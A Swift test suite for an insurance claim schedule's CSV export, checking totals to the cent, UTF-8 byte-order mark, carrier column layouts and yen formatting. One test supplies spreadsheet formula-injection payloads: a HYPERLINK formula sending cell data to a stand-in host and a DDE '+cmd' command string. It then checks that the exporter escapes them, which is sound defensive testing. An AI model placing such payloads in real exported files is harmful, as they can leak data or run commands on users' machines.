import Claims
import Inventory
import Testing

/// The schedule as a spreadsheet: safe to open, and the same figures as the report to the cent.
@Suite struct ScheduleCSVTests {
    typealias F = ValuationFixtures

    /// Rows of cells from CSV text in which every cell is quoted (after its byte-order mark).
    static func rows(_ text: String) -> [[String]] {
        String(text.drop { $0 == "\u{FEFF}" }).components(separatedBy: "\r\n").dropLast().map { line in
            var cells: [String] = [], cell = "", quoted = false, previous: Character = " "
            for character in line {
                if character == "\"" {
                    // A quote right after the closing one is a doubled quote inside the cell.
                    if !quoted, previous == "\"" { cell.append("\"") }
                    quoted.toggle()
                } else if character == ",", !quoted {
                    cells.append(cell)
                    cell = ""
                } else {
                    cell.append(character)
                }
                previous = character
            }
            cells.append(cell)
            return cells
        }
    }

    @Test func aFormulaInANameStaysText() throws {
        let hostile = F.item("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", replacementCost: 10_00, purchased: "2024-03-10",
                             brand: "+cmd|' /C calc'!A0", model: "@SUM(1+1)", serial: "-2+3")
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2025-03-10"), table: .defaults, lines: [
            .init(item: hostile, room: "\tKitchen", quantityLost: 1),
        ]))
        let csv = ClaimScheduleCSV.make(schedule, currency: .usd)
        let row = Self.rows(csv)[1]
        #expect(row[3] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
        #expect(row[5] == "'+cmd|' /C calc'!A0")
        #expect(row[6] == "'@SUM(1+1)")
        #expect(row[7] == "'-2+3")
        #expect(row[1] == "'\tKitchen" && row[2] == "'\tKitchen")
        #expect(csv.hasSuffix("\r\n"))
    }

    @Test func theLinesAddUpToTheScheduleToTheCentWithNoTotalsRow() throws {
        let schedule = try ScheduleTests.kitchenFire()
        let rows = Self.rows(ClaimScheduleCSV.make(schedule, currency: .usd))
        #expect(rows.count == 1 + schedule.lines.count, "a header and the lines, nothing else")
        let header = rows[0], lineRows = rows.dropFirst()
        #expect(rows.allSatisfy { $0.count == header.count })
        #expect(lineRows.map { $0[0] } == ["1", "2", "3", "4"], "no row but a line's")
        func column(_ name: String) -> Int { header.firstIndex(of: name)! }
        func cents(_ text: String) -> Int64 { Int64(text.replacingOccurrences(of: ".", with: ""))! }

        // Each row's line figures are its quantity times its unit figures, and the rows add up to the totals.
        for row in lineRows {
            let quantity = Int64(row[column("Quantity lost")])!
            #expect(cents(row[column("Line actual cash value (USD)")]) == quantity * cents(row[column("Unit actual cash value (USD)")]))
        }
        func sum(_ name: String) -> Int64 { lineRows.reduce(0) { $0 + cents($1[column(name)]) } }
        #expect(sum("Line replacement cost pre-tax (USD)") == schedule.totals.replacementCost)
        #expect(sum("Line depreciation (USD)") == schedule.totals.depreciation)
        #expect(sum("Line actual cash value (USD)") == schedule.totals.actualCashValue)
        #expect(sum("Recoverable depreciation (USD)") == schedule.totals.recoverableDepreciation)

        let dishwasher = rows[1]
        #expect(dishwasher[column("Name")] == "Bosch dishwasher")
        #expect(dishwasher[column("Description")] == "Series 6, stainless")
        #expect(dishwasher[column("Unit replacement cost pre-tax (USD)")] == "899.00")
        #expect(dishwasher[column("Depreciation %")] == "46.15")
        #expect(dishwasher[column("Purchase date")] == "2019-03-10")
        #expect(dishwasher[column("Age (years)")] == "6.0" && dishwasher[column("Age")] == "6 years")
        #expect(rows[2][column("Age (years)")] == "3.5" && rows[2][column("Age")] == "3 years 6 months")
        #expect(rows[4][column("Useful life (years)")] == "not depreciated")
        #expect(rows[3][column("Value set by hand because")] == "Enamel like new; used a few times a year")
        #expect(header.contains("Condition") && header.contains("Business use") && header.contains("Room path"))
    }

    @Test func theFileStartsWithAByteOrderMarkSoExcelReadsUTF8() throws {
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2025-03-10"), table: .defaults, lines: [
            .init(item: F.item("Wüsthof chef’s knife", replacementCost: 169_00, purchased: "2022-03-10", condition: .good),
                  room: "Home / Küche", roomName: "Küche", quantityLost: 1),
        ]))
        let bytes = Array(ClaimScheduleCSV.make(schedule, currency: .usd).utf8)
        #expect(bytes.prefix(3) == [0xEF, 0xBB, 0xBF])
        let rows = Self.rows(String(decoding: bytes, as: UTF8.self))
        let header = rows[0], row = rows[1]
        #expect(header[0] == "Line", "the mark is not part of the first header")
        #expect(row[header.firstIndex(of: "Name")!] == "Wüsthof chef’s knife")
        #expect(row[header.firstIndex(of: "Room")!] == "Küche" && row[header.firstIndex(of: "Room path")!] == "Home / Küche")
        #expect(row[header.firstIndex(of: "Condition")!] == "Good")
    }

    @Test func carrierProfilesHaveTheirColumnsInTheirOrder() throws {
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2025-03-10"), table: .defaults, lines: [
            .init(item: F.item("Bosch dishwasher", replacementCost: 899_00, purchasePrice: 749_00, purchased: "2019-03-10",
                               description: "Series 6", brand: "Bosch", model: "SMS6ZCI00G", from: "John Lewis", condition: .fair),
                  room: "House / Kitchen", roomName: "Kitchen", quantityLost: 1),
            .init(item: { var chair = F.item("Dining chair", id: 2, quantity: 6, replacementCost: 129_99, purchased: "2021-09-10")
                          chair.details.businessUse = true  // the home office's
                          return chair }(),
                  room: "House / Dining room", roomName: "Dining room", quantityLost: 4),
        ]))
        let claimXperience = Self.rows(ClaimScheduleCSV.make(schedule, currency: .usd, profile: .claimXperience))
        #expect(claimXperience[0] == ["Item description", "Brand", "Model", "Qty lost", "Item age", "Cost to replace pre-tax each",
                                      "Condition", "Business use", "Room"])
        #expect(claimXperience[1] == ["Bosch dishwasher — Series 6", "Bosch", "SMS6ZCI00G", "1", "6.0", "899.00", "Fair", "No", "Kitchen"])
        #expect(claimXperience[2] == ["Dining chair", "", "", "4", "3.5", "129.99", "", "Yes", "Dining room"])
        #expect(claimXperience.count == 3, "no totals row")

        let scheduleOfLoss = Self.rows(ClaimScheduleCSV.make(schedule, currency: .usd, profile: .scheduleOfLoss))
        #expect(scheduleOfLoss[0] == ["Item #", "Room", "Description", "Brand", "Model", "Supplier", "Quantity", "Age in years",
                                      "Original cost", "Replacement cost", "Depreciation", "ACV"])
        let dishwasher = schedule.lines[0].valuation, chairs = schedule.lines[1].valuation
        #expect(scheduleOfLoss[1] == ["1", "Kitchen", "Bosch dishwasher — Series 6", "Bosch", "SMS6ZCI00G", "John Lewis", "1", "6.0",
                                      "749.00", "899.00", cents(dishwasher.lineDepreciation), cents(dishwasher.lineActualCashValue)])
        #expect(scheduleOfLoss[2] == ["2", "Dining room", "Dining chair", "", "", "", "4", "3.5",
                                      "", "519.96", cents(chairs.lineDepreciation), cents(chairs.lineActualCashValue)])
        #expect(scheduleOfLoss.count == 3, "no totals row")
        #expect(ClaimScheduleProfile(rawValue: "claimxperience") == .claimXperience)
        #expect(ClaimScheduleProfile.names == "full, claimxperience, schedule-of-loss")
    }

    private func cents(_ minorUnits: Int64) -> String { Money(minorUnits: minorUnits, currency: .usd).decimalString }

    @Test func yenAmountsHaveNoDecimalPoint() throws {
        let jpy = Currency(code: "JPY")!
        let schedule = try ClaimSchedule(ClaimScheduleInput(lossDate: F.date("2026-03-10"), table: .defaults, lines: [
            .init(item: F.item("Zojirushi rice cooker", replacementCost: 19_800, purchased: "2021-03-10"), quantityLost: 2),
        ]))
        let rows = Self.rows(ClaimScheduleCSV.make(schedule, currency: jpy))
        #expect(rows[0].contains("Line actual cash value (JPY)"))
        let acv = rows[0].firstIndex(of: "Line actual cash value (JPY)")!
        #expect(rows[1][acv] == "19800")  // 2 × (19,800 − 50%)
        #expect(rows.count == 2)
    }
}
